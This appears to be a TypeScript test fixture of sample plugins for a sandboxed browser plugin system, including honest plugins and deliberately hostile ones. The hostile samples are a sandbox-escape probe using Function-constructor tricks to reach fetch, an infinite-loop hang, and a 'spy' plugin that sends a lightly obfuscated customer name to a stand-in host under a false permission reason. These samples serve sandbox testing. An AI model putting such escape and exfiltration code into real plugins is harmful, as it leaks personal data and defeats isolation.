/** Plugins for the browsers: two honest ones, and some that are not. */
import type { Made } from '../../sdk/plugin/lib/packs.ts';

export const cure: Made = {
  id: 'acme.cure',
  code: `export function run({ draft, language }) {
    const start = draft.text.indexOf('Heilung');
    const message = language === 'de' ? 'Kein Heilversprechen.' : 'No promise of a cure.';
    return { findings: start < 0 ? [] : [{ rule: 'cure', severity: 'warn', start, end: start + 7, message }] };
  }`,
  change: { name: { de: 'Apotheke', en: 'Pharmacy' } },
};

const words = (text: string) => ({ de: text, en: text });

/** Says one thing of every post. */
export const assessor: Made = {
  id: 'acme.assessor',
  slot: 'assessor',
  code: `export const run = ({ post }) => ({
    signals: post.text === '' ? [] : [{ id: 'seen', label: 'Gesehen', level: 'info' }],
  })`,
};

/** A tab of its own beside the case. */
export const tab: Made = {
  id: 'acme.tab',
  slot: 'panel',
  code: `export const run = () => ({ view: [
    { node: 'heading', text: 'Störungen' }, { node: 'list', items: ['RE 8', 'RE 80'] },
    { node: 'rows', rows: [{ label: 'Stand', value: 'heute' }] },
  ] })`,
  tests: [{ name: 'lists', slot: 'panel', language: 'de', input: {}, expect: { view: [{}, {}, {}] } }],
  change: { name: words('Lage') },
};

/** Proposes a text and a note. */
export const proposer: Made = {
  id: 'acme.proposer',
  slot: 'action',
  code: `export const run = () => ({ proposals: [
    { kind: 'draft', text: 'Hallo Lena, wir sehen uns das an. ^AV', reason: 'Passt zum Beitrag.' },
    { kind: 'note', text: 'Rückruf versprochen', reason: 'Steht im Beitrag.' },
  ] })`,
  tests: [{ name: 'proposes', slot: 'action', language: 'de', input: {}, expect: { proposals: [{}, {}] } }],
  change: { name: words('Vorschlag') },
};

/** Well-behaved in its tests, and never again after this word. */
export const hang: Made = {
  id: 'acme.hang',
  code: `export function run({ draft }) { while (draft.text.includes('Lena')); return { findings: [] }; }`,
};

/** Looks for a way out and says what it found. */
export const escapee: Made = {
  id: 'acme.escapee',
  code: `const tries = {
    names: () => ['fetch', 'XMLHttpRequest', 'WebSocket', 'indexedDB', 'caches', 'localStorage', 'document', 'window', 'self',
      'chrome', 'browser', 'navigator', 'location', 'postMessage', 'importScripts', 'Worker', 'setTimeout', 'WebAssembly',
      'SharedArrayBuffer', 'Atomics', 'crypto', 'performance', 'console', 'process', 'require', 'eval']
      .filter((name) => typeof globalThis[name] !== 'undefined').join(),
    code: () => [].constructor.constructor('return 1')(),
    generator: () => Object.getPrototypeOf(function* () {}).constructor('yield 1')().next().value,
    async: () => Object.getPrototypeOf(async function () {}).constructor('return 1') && 'made',
    error: () => { try { null.x } catch (e) { return e.constructor.constructor('return this')().fetch } },
  };
  export function run({ draft }) {
    if (!draft.text.includes('Ausbruch')) return { findings: [] };
    const said = Object.entries(tries).map(([name, one]) => {
      try { return name + '=' + one(); } catch (error) { return name + '!' + error.name; }
    });
    return { findings: [{ rule: 'out', severity: 'hint', start: 0, end: 1, message: said.join(' ') }] };
  }`,
};
/** What the escapee says where there is no way out. */
export const NO_WAY_OUT = 'names= code!TypeError generator!TypeError async!TypeError error!TypeError';

/** Reads tickets from one host; where it knows the customer it tries to tell another. */
export const tickets: Made = {
  id: 'acme.tickets',
  slot: 'context',
  code: `export function run({ customer, responses }) {
    const { tickets } = responses;
    if (!tickets) return { fetch: [{ id: 'tickets', url: 'https://rt.example.com/rest/2.0/tickets' }] };
    return { cards: [{ title: 'Request Tracker', rows: [{ label: 'offen', value: JSON.parse(tickets.body).total + ' Vorgänge' }] }] };
  }`,
  permissions: { hosts: [{ host: 'rt.example.com', reason: words('Vorgänge') }], fields: [], storage: null },
  tests: [
    {
      name: 'counts the tickets',
      slot: 'context',
      language: 'de',
      input: {},
      fetch: {
        'https://rt.example.com/rest/2.0/tickets': {
          status: 200,
          contentType: 'application/json',
          body: '{"total":3}',
        },
      },
      expect: { cards: [{ rows: [{ value: '3 Vorgänge' }] }] },
    },
  ],
};

/** Is given the name, and wants to send it to a host that is allowed, but not for names. */
export const spy: Made = {
  id: 'acme.spy',
  slot: 'context',
  code: `export function run({ customer }) {
    if (!customer) return { cards: [] };
    return { fetch: [{ id: 'out', url: 'https://spy.example.com/?' + [...customer.name].reverse().join('') }] };
  }`,
  permissions: {
    hosts: [
      { host: 'rt.example.com', reason: words('Vorgänge') },
      { host: 'spy.example.com', reason: words('Wetter') },
    ],
    fields: [{ field: 'customer.name', sinks: ['rt.example.com'], reason: words('Anrede') }],
    storage: null,
  },
};
